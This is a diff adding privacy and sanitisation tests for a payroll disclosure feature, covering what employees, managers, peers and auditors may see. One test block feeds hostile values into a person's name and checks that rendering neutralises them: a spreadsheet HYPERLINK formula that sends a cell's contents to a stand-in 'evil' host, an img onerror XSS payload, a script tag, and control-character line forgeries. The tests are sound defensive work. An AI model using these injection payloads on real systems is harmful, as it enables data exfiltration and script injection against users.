@@ -114,6 +114,7 @@ import { comparison, hourly, paid } from '../equity/company.js'
 import { found } from '../found.js'
 import * as career from '../growth/fixture.js'
 import { base as payBase, li as payLi } from '../pay/months.js'
+import * as firm from '../payroll/disclosure-company.js'
 import { policy } from '../rating/campaign.js'
 import { ann, bookOf, book as company, operations, request, statementOf } from '../run/company.js'
 import { adjustments, awards, pools, yearEnd } from '../run/year-end.js'
@@ -2175,5 +2176,173 @@ describe('payroll: what leaves a run runs nowhere, and tells of nobody alone', (
     test('begins with a mark where that is asked for', () => {
       expect(payroll.journalCsv([], { mark: true })).toBe(`\uFEFF${payroll.journalCsv([])}`)
     })
+  })
+})
+
+describe('payroll: a view of the new run confirms no guess, and holds nothing that is not named', () => {
+  const { about, company: of, data: known, dataOf, key, march: paid, people, runOf } = firm
+  const given = ['employee', 'manager', 'peer', 'auditor'] as const
+  const locales = ['en', 'zh-CN'] as const
+  const formats = ['text', 'markdown', 'html'] as const
+  const viewOf = (audience: string, person = 'li', from = paid, told = known) =>
+    payroll.disclose(of, told, from, { key, about, person, audience })
+  const pages = (view: payroll.View) =>
+    locales.flatMap((locale) =>
+      formats.map((format) => payroll.renderView(view, { locale, format, book: of })),
+    )
+  const hashesOf = (value: unknown) => new Set(JSON.stringify(value).match(/[0-9a-f]{64}/g))
+
+  test.each([
+    ['salary', '4321.01'],
+    ['score', '76'],
+    ['sales', '641.00'],
+  ])(
+    'A1 the %s of another is confirmed by no digest that the employee can work out',
+    (name, other) => {
+      for (const value of [people.wang[name as 'salary'], other]) {
+        const told = dataOf({ ...people, wang: { ...people.wang, [name]: value } })
+        const run = runOf(told)
+        const worked = [
+          digestOf(told),
+          digestOf(run),
+          ...hashesOf(run),
+          ...payroll
+            .statements(of, told, run, { about })
+            .flatMap((each) => [
+              digestOf(each),
+              ...each.lines.flatMap((line) => [digestOf(line), ...line.parts.map(digestOf)]),
+            ]),
+        ]
+        for (const audience of ['employee', 'manager', 'peer'])
+          for (const digest of hashesOf(viewOf(audience))) expect(worked).not.toContain(digest)
+      }
+    },
+  )
+
+  test.each(given)('A2 the copy of the %s says nothing of the run before', (audience) => {
+    const april = settlePay(of, known, { period: '2026-04', before: paid })
+    const view = JSON.stringify(viewOf(audience, 'li', april))
+    expect(view).not.toContain(paid.digest)
+    expect(view.includes(april.digest)).toBe(audience === 'auditor')
+  })
+
+  // What only some may see, by who may.
+  const marks: readonly (readonly [string, string, readonly string[]])[] = [
+    ['a reason', 'Taxi at night', ['employee', 'auditor']],
+    ['what a formula read', '514.37', ['employee', 'auditor']],
+    ['an amount', '3087.91', ['employee', 'manager', 'auditor']],
+    ['the score of the team', '146', ['auditor']],
+    ['the sum of all sales', '1874.37', ['auditor']],
+    ['the digest of the run', '', ['auditor']],
+  ]
+  test.each(given)(
+    'A3 the page and the data of the %s hold no mark of what is hidden',
+    (audience) => {
+      const li = { ...people.li, salary: '3087.91', sales: '514.37', score: '69' }
+      const told = dataOf({ ...people, li })
+      const run = runOf(told)
+      const view = viewOf(audience, 'li', run, told)
+      for (const [, mark, seen] of marks) {
+        const text = mark === '' ? run.digest : mark
+        const grouped = text.replace(/^(\d)(\d{3}\.)/, '$1,$2')
+        expect(JSON.stringify(view).includes(`"${text}"`)).toBe(seen.includes(audience))
+        for (const page of pages(view)) {
+          const plain = page.replaceAll('\\', '')
+          expect([text, grouped].some((each) => plain.includes(each))).toBe(seen.includes(audience))
+        }
+      }
+      for (const page of pages(view)) {
+        expect(page).not.toMatch(/undefined|null|NaN|wang|Wang/)
+        expect(page).toContain('Li Na')
+      }
+    },
+  )
+
+  test.each([
+    ['a pool of two weighted by salary', 'pool'],
+    ['what reads the divided value itself', 'note'],
+    ['a sum over a team of two', 'teamBonus'],
+    ['a turnover of two', 'shop'],
+  ])('A15 %s shows neither what is divided nor the sum of others', (_, name) => {
+    const { wang } = people
+    const told = dataOf({ li: people.li, wang })
+    const run = runOf(told)
+    const lines = (audience: string) =>
+      viewOf(audience, 'li', run, told).lines.filter(({ shown }) => shown.what?.component === name)
+    expect(
+      lines('auditor').every(({ shown }) => Object.keys(shown.others?.[0] ?? {}).length > 0),
+    ).toBe(true)
+    for (const { shown } of lines('employee')) {
+      expect(shown.others).toBeUndefined()
+      expect(shown.working?.map(({ read }) => read)).toEqual([{}])
+    }
+    const text = JSON.stringify(viewOf('employee', 'li', run, told))
+    for (const each of ['900', '900.00', '7321', '147', '1140'])
+      expect(text).not.toContain(`"${each}"`)
+  })
+
+  const noted = <T extends object>(each: T): T => ({ ...each, hrNote: '§§' })
+  const withNotes = {
+    ...paid,
+    hrNote: '§§',
+    lines: paid.lines.map((line) => ({
+      ...noted(line),
+      earned: noted(line.earned),
+      parts: line.parts.map(noted),
+    })),
+    withheld: paid.withheld.map(noted),
+  }
+  const labelled = {
+    ...of,
+    components: new Map(
+      [...of.components].map(([name, each]) => [
+        name,
+        {
+          ...each,
+          versions: each.versions.map((version) => {
+            const { label = name } = version.component
+            const own = typeof label === 'string' ? label : noted(label)
+            return { ...version, component: { ...version.component, label: own } }
+          }),
+        },
+      ]),
+    ),
+  }
+  test.each([
+    ['a run', of, withNotes],
+    ['the labels of a book', labelled, paid],
+    ['a statement that inherits one', of, Object.setPrototypeOf({ ...paid }, { hrNote: '§§' })],
+  ] as const)('A16 a note in %s comes through to nobody', (_, book, run) => {
+    for (const audience of given) {
+      const view = payroll.disclose(book, known, run, { key, about, person: 'li', audience })
+      expect(JSON.stringify(view)).not.toContain('§§')
+      expect(view).toEqual(viewOf(audience))
+      for (const page of pages(view)) expect(page).not.toContain('§§')
+    }
+  })
+
+  test.each([
+    ['A19 a formula', '=HYPERLINK("http://evil/?"&A1)'],
+    ['A20 a directive', "%%{init: {'theme':'forest'}}%% `**x**`"],
+    ['A21 an address', 'http://evil.com/x www.evil.com a@evil.com'],
+    ['A22 a forged line', 'Li\nTotal: 99,999.00 CNY\u001b[31m'],
+    ['A3 markup', '<img src=x onerror=alert(1)> [x](http://evil) </title><script>'],
+  ])('%s in a name adds nothing', (_, name) => {
+    const named = known.people.map((each) => (each.id === 'li' ? { ...each, name } : each))
+    const told = parsePayData({ ...known, people: named })
+    const lines = (view: payroll.View) => pages(view).map((page) => page.split('\n').length)
+    for (const audience of given) {
+      const view = viewOf(audience, 'li', paid, told)
+      expect(lines(view)).toEqual(lines(viewOf(audience)))
+      for (const [i, page] of pages(view).entries()) {
+        // biome-ignore lint/suspicious/noControlCharactersInRegex: none may be left
+        expect(page).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u202e]/)
+        if (formats[i % 3] === 'html') expect(page).not.toMatch(/<img|<script|<\/title>./)
+        if (formats[i % 3] !== 'markdown') continue
+        // Without what is escaped, and the emphasis of the list itself.
+        const plain = page.replace(/\\[^\w\s]/g, '').replaceAll('**', '')
+        expect(plain).not.toMatch(/[`*[\]<>@]|:\/\/|www\./)
+      }
+    }
   })
 })
